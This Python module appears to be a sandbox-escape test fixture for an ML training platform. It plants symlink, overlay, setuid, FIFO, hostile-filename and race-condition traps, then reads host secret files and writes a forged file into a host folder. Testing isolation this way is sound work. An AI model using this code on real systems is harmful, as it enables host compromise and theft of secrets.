"""Hostile code of a job: lays traps for more privileged code that runs later, and collects any loot.

A job has this module in its code, beside targets.json, which lists the targets. The phase under test calls `lay`; a
later phase of the same job calls `loot`, which prints everything it can read. It needs only the standard library.

Each trap is a function of the ground it is laid on. It skips what the ground does not allow, such as device nodes
without root, and still lays its other parts.
"""

import json
import os
import shutil
import socket
import stat
import sys
import time
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any

LAID, LOOTED, SEARCHED = "traps are laid", "loot:", "there is nothing more to loot"
# The host's root may be mounted here while the next sandbox is set up.
HOST = "/.host"
BEGUN, DONE = Path("/var/tmp/begun"), Path("/var/tmp/done")  # markers for other processes of the job
CHANNELS = ("a", "b")
EXTRA = "/tmp/outside/of/opt/ml/checkpoints"  # a checkpoint folder outside /opt/ml

# Entries of /opt/ml that a job may be able to replace.
LEAVES = (
    "input/data/a",
    "input/config/hyperparameters.json",
    "model",
    "output/data",
    "output/failure",
    "output/intermediate",
    "output/metrics/sagemaker",
    "output/tensors",
    "output/debug-output",
    "checkpoints",
    "rules",
    ".trainyard",
    ".trainyard-debugger",
)
FOLDERS = ("input/data", "input", "output/metrics", "output", ".trainyard/environment", ".trainyard/cache")
STORED = ("model", "output/data", "output/intermediate", "output/tensors", "checkpoints")
# Nested folders: exceeds the limits on path length, call depth and, usually, open files.
DEEP = 3_000
_SWAPPING_S = 3.0


class Ground:
    """Where traps are laid, and their targets."""

    def __init__(self, targets: Mapping[str, Any]) -> None:
        self.ml = Path("/opt/ml")
        self.trap: str = targets["trap"]
        self.secrets: Sequence[str] = targets["secrets"]  # files of the host
        self.folder: str = targets["folder"]  # of the host

    @property
    def instance(self) -> str:
        """Return this instance's folder on the host. The kernel reveals which part of a file system is mounted here."""
        lines = (line.split() for line in Path("/proc/self/mountinfo").read_text().splitlines())
        own = next(words[3] for words in lines if words[4] in ("/opt/ml", "/opt/ml/model"))
        return own.removesuffix("/model").removesuffix("/ml")

    def clear(self, path: Path) -> Path:
        """Make room for a trap: move aside what is there, or its parent if it is a mount."""
        path.parent.mkdir(parents=True, exist_ok=True)
        if os.path.lexists(path):
            aside = f".aside-{time.monotonic_ns()}"
            try:
                path.rename(path.with_name(aside))
            except OSError:
                if path.parent == self.ml:
                    raise
                path.parent.rename(path.parent.with_name(f"{aside}-{path.parent.name}"))
                path.parent.mkdir()
        return path

    def cleared(self, places: Sequence[str]) -> Iterator[Path]:
        """Return the places below /opt/ml that could be cleared; in a container most are mounts."""
        for place in places:
            with suppress(OSError):
                yield self.clear(self.ml / place)


TRAPS: dict[str, Callable[[Ground], None]] = {}


def trap(name: str) -> Callable[[Callable[[Ground], None]], Callable[[Ground], None]]:
    def add(lay: Callable[[Ground], None]) -> Callable[[Ground], None]:
        assert name not in TRAPS, name
        TRAPS[name] = lay
        return lay

    return add


def lay() -> None:
    """Lay the trap that the targets name. Do so only once, because a build starts several times."""
    ground = _ground()
    try:
        BEGUN.touch(exist_ok=False)
    except FileExistsError:
        return
    TRAPS[ground.trap](ground)
    DONE.touch()
    _say(LAID)


def plant() -> None:
    """Leave links to every target in the environment that is being installed, under names that nothing else uses."""
    ground = _ground()
    environment = ground.ml / ".trainyard/environment"
    for name, to in _destinations(ground).items():
        for place in (environment, environment / "bin", environment / "lib"):
            with suppress(FileExistsError):
                (place / name.replace(" ", "-")).symlink_to(to)
    # An agent looks for these.
    for name in ("bin/mpirun", "lib/python0"):
        with suppress(FileExistsError):
            (environment / name).symlink_to(HOST + ground.folder)


def loot() -> None:
    """Print every secret that can be read in any way, and try to write to the folder of the host."""
    ground = _ground()
    for way in _ways():
        for secret in ground.secrets:
            for path in _paths(way, secret):
                with suppress(OSError):
                    _say(f"{LOOTED} {path} {path.read_text(errors='replace')}")
        for path in _paths(way, f"{ground.folder}/left-by-a-job"):
            with suppress(OSError):
                path.write_text("forged")
    _say(SEARCHED)


def _ways() -> Iterator[str]:
    yield from ("", HOST, "/proc/1/root", "/proc/self/root", EXTRA, "/opt/ml/checkpoints")
    for folder in ("/opt/ml/input/data", "/opt/ml", "/tmp", "/run/trainyard"):
        with suppress(OSError):
            yield from sorted(str(entry) for entry in Path(folder).iterdir())


def _paths(way: str, target: str) -> Iterator[Path]:
    """Return the paths of a host file if a path led to the host's root or to a folder around the file."""
    for first in range(1, len(Path(target).parts)):
        yield Path(way or "/", *Path(target).parts[first:])


def _ground() -> Ground:
    return Ground(json.loads(Path(__file__).with_name("targets.json").read_text()))


def _say(text: str) -> None:
    """Write to the log of the job, even if a tool captures the output of this process: its parents write there."""
    for pid in sorted(int(entry.name) for entry in Path("/proc").iterdir() if entry.name.isdigit()):
        with suppress(OSError), Path(f"/proc/{pid}/fd/1").open("w") as output:
            output.write(f"{text}\n")
            return
    sys.stdout.write(f"{text}\n")
    sys.stdout.flush()


# Links


def _destinations(ground: Ground) -> dict[str, str]:
    return {
        "the old root": HOST,
        "a secret below the old root": HOST + ground.secrets[0],
        "a folder below the old root": HOST + ground.folder,
        "the root of init": "/proc/1/root",
        "a folder below the root of init": f"/proc/1/root{ground.folder}",
        "the descriptors of whoever follows": "/proc/self/fd/..",
        "the root": "/",
        "a parent": "../../../../../../../../../..",
        "a secret of the host": ground.secrets[0],
        "a folder of the host": ground.folder,
    }


def _add_links() -> None:
    nowhere = Ground({"trap": "", "secrets": [""], "folder": ""})
    for destination in _destinations(nowhere):
        for words, places in (("everything", LEAVES), ("whole folders", FOLDERS)):

            @trap(f"links to {destination} in place of {words}")
            def _(ground: Ground, to: str = destination, places: Sequence[str] = places) -> None:
                for path in ground.cleared(places):
                    path.symlink_to(_destinations(ground)[to])

        @trap(f"links to {destination} among what is stored")
        def _(ground: Ground, to: str = destination) -> None:
            for folder in _stored(ground):
                (folder / "link").symlink_to(_destinations(ground)[to])
                (folder / "deeper").mkdir(exist_ok=True)
                (folder / "deeper" / "link").symlink_to(_destinations(ground)[to])


def _stored(ground: Ground) -> Iterator[Path]:
    """Return the folders whose content is stored. Create those that are missing."""
    for place in STORED:
        folder = ground.ml / place
        folder.mkdir(parents=True, exist_ok=True)
        yield folder


_add_links()


# Folders of an instance from which the next sandbox mounts something after a channel, and what it mounts.
_MOUNTED_AFTER = {
    ("a", "channels"): ("b",),
    ("b", "scratch"): ("extra/0", "tmp", "var-tmp"),
    ("b", "."): ("ml", "channels", "launch", "logs", "spool"),
}


def _add_mounts() -> None:
    """The job controls the overlay of a channel. Mounted over a folder of the host, it decides what is mounted next.

    For an ordinary user, a kernel does not bind the bare root of the host, but any folder without mounts below it.
    """
    for (channel, place), names in _MOUNTED_AFTER.items():
        for words in ("the old root", "a folder below the old root"):

            @trap(f"a channel to be mounted on {place} of its instance, full of links to {words}")
            def _(
                ground: Ground,
                channel: str = channel,
                place: str = place,
                names: Sequence[str] = names,
                to: str = words,
            ) -> None:
                changed = ground.ml / "input/data" / channel
                for name in names:
                    # A rule sees no channel there, only its mount point.
                    with suppress(PermissionError):
                        (changed / name).parent.mkdir(exist_ok=True)
                        (changed / name).symlink_to(_destinations(ground)[to])
                ground.clear(changed).symlink_to(f"{HOST}{ground.instance}/{place}")


_add_mounts()


@trap("links in the scratch folders of the next sandbox")
def _(ground: Ground) -> None:
    for place in (Path("/tmp"), Path("/var/tmp"), Path("/dev/shm")):
        for name, to in _destinations(ground).items():
            with suppress(FileExistsError):
                (place / name.replace(" ", "-")).symlink_to(to)
    # It is a mount in some sandboxes.
    with suppress(OSError):
        ground.clear(Path("/tmp/outside")).symlink_to(HOST + ground.folder)


# Special files


@trap("pipes in place of everything")
def _(ground: Ground) -> None:
    for path in ground.cleared(LEAVES):
        os.mkfifo(path)


@trap("pipes among what is stored")
def _(ground: Ground) -> None:
    for folder in _stored(ground):
        os.mkfifo(folder / "pipe")


@trap("sockets in place of everything")
def _(ground: Ground) -> None:
    for path in ground.cleared(LEAVES):
        _listen(path)


@trap("sockets among what is stored")
def _(ground: Ground) -> None:
    for folder in _stored(ground):
        _listen(folder / "socket")


@trap("device nodes among what is stored")
def _(ground: Ground) -> None:
    """Only root may create a device node, except for the whiteout of overlays, which is number 0 of 0."""
    for folder in _stored(ground):
        for name, kind, number in (("whiteout", stat.S_IFCHR, (0, 0)), ("disk", stat.S_IFBLK, (8, 0))):
            with suppress(OSError):
                os.mknod(folder / name, kind | 0o666, os.makedev(*number))


@trap("whiteouts and opaque folders in the changes of a channel")
def _(ground: Ground) -> None:
    changed = ground.ml / "input/data/a"
    shutil.rmtree(changed / "deep", ignore_errors=True)
    # A rule sees no channel.
    with suppress(PermissionError):
        (changed / "deep").mkdir()
    for name in ("trusted.overlay.opaque", "user.overlay.opaque", "user.overlay.redirect", "user.overlay.metacopy"):
        with suppress(OSError):
            os.setxattr(changed / "deep", name, ground.folder.encode())
    with suppress(OSError):
        (changed / "a.csv").unlink()


def _listen(path: Path) -> None:
    """Listen at a path relative to its folder, because the path of a socket must be short."""
    with _working_in(path.parent), socket.socket(socket.AF_UNIX) as made:
        made.bind(path.name)


@contextmanager
def _working_in(folder: Path) -> Iterator[None]:
    before = os.open(".", os.O_RDONLY)
    os.chdir(folder)
    try:
        yield
    finally:
        os.fchdir(before)
        os.close(before)


# Files and folders that are hard to handle


@trap("second names of its own files and of a channel's")
def _(ground: Ground) -> None:
    for folder in _stored(ground):
        for number, source in enumerate((Path(__file__), ground.ml / "input/data/a/a.csv")):
            with suppress(OSError):
                (folder / f"second-{number}").hardlink_to(source)


@trap("files and folders without any right")
def _(ground: Ground) -> None:
    for folder in _stored(ground):
        (folder / "closed").write_text("closed")
        (folder / "shut" / "in").mkdir(parents=True)
        (folder / "shut" / "in" / "file").write_text("shut")
        for closed in (folder / "closed", folder / "shut" / "in", folder / "shut", folder):
            closed.chmod(0)


@trap("folders without any right in place of everything")
def _(ground: Ground) -> None:
    for path in ground.cleared(LEAVES):
        path.mkdir(mode=0)


@trap("setuid and sticky files")
def _(ground: Ground) -> None:
    for folder in _stored(ground):
        (folder / "program").write_text("#!/bin/sh\n")
        (folder / "program").chmod(0o7777)
        folder.chmod(0o7777)


@trap("names of every byte")
def _(ground: Ground) -> None:
    for folder in _stored(ground):
        names = [b"new\nline", b"\xff\xfe", b"-rf", b" ", b"..hidden", b"\x1b[2J", b"a" * 255, b"..."]
        for name in names:
            (folder / os.fsdecode(name)).write_text("odd")


@trap("folders nested without end")
def _(ground: Ground) -> None:
    for folder in _stored(ground):
        with _working_in(folder):
            for _ in range(DEEP):
                Path("deeper").mkdir()
                os.chdir("deeper")


@trap("huge files of nothing but holes")
def _(ground: Ground) -> None:
    for folder in _stored(ground):
        with (folder / "holes").open("wb") as file:
            file.truncate(1 << 42)


@trap("files in place of folders and folders in place of files")
def _(ground: Ground) -> None:
    were_folders = {ground.ml / place for place in LEAVES if (ground.ml / place).is_dir()}
    for path in ground.cleared(LEAVES):
        if path in were_folders:
            path.write_text("no folder")
        else:
            path.mkdir()


@trap("folders that change places with links all the time")
def _(ground: Ground) -> None:
    pairs = []
    for folder in _stored(ground):
        (folder / "inner").mkdir(exist_ok=True)
        (folder / "inner" / Path(ground.secrets[0]).name).write_text("own")
        for place in (folder / "inner", folder):
            link = place.with_name(f"{place.name}.swapped")
            link.symlink_to(ground.folder)
            pairs.append((place, link))
    deadline = time.monotonic() + _SWAPPING_S
    while time.monotonic() < deadline:
        for place, link in pairs:
            aside = place.with_name(f"{place.name}.aside")
            # A mount cannot be moved.
            with suppress(OSError):
                for one, other in ((place, aside), (link, place), (place, link), (aside, place)):
                    one.rename(other)
